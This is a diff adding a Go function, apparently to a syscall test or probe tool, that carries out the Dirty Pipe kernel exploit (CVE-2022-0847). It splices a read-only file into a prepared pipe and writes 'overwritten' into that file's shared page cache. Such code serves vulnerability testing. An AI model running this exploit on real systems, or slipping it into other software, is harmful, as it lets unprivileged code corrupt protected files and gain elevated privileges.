@@ -163,6 +163,41 @@ func writeMemory(a []string) error {
 	return err
 }
 
+// dirtyPipe changes a byte of a file that it may only read, by a pipe that remembers being writable (CVE-2022-0847). It does not
+// look whether that worked: the page cache is shared with whoever else reads the file.
+func dirtyPipe(a []string) error {
+	var ends [2]int
+	if err := unix.Pipe2(ends[:], unix.O_CLOEXEC); err != nil {
+		return err
+	}
+	size, err := unix.FcntlInt(uintptr(ends[1]), unix.F_GETPIPE_SZ, 0)
+	if err != nil {
+		return err
+	}
+	block := make([]byte, size)
+	if _, err := unix.Write(ends[1], block); err != nil { // every buffer of the pipe is marked as one that can be added to
+		return err
+	}
+	for left := size; left > 0; {
+		n, err := unix.Read(ends[0], block)
+		if err != nil {
+			return err
+		}
+		left -= n
+	}
+	f, err := os.Open(a[0])
+	if err != nil {
+		return err
+	}
+	defer f.Close()
+	offset := int64(0)
+	if _, err := unix.Splice(int(f.Fd()), &offset, ends[1], nil, 1, 0); err != nil {
+		return err
+	}
+	_, err = unix.Write(ends[1], []byte("overwritten"))
+	return err
+}
+
 func openExistingQueue(name string) error {
 	p, err := unix.BytePtrFromString(name)
 	if err != nil {
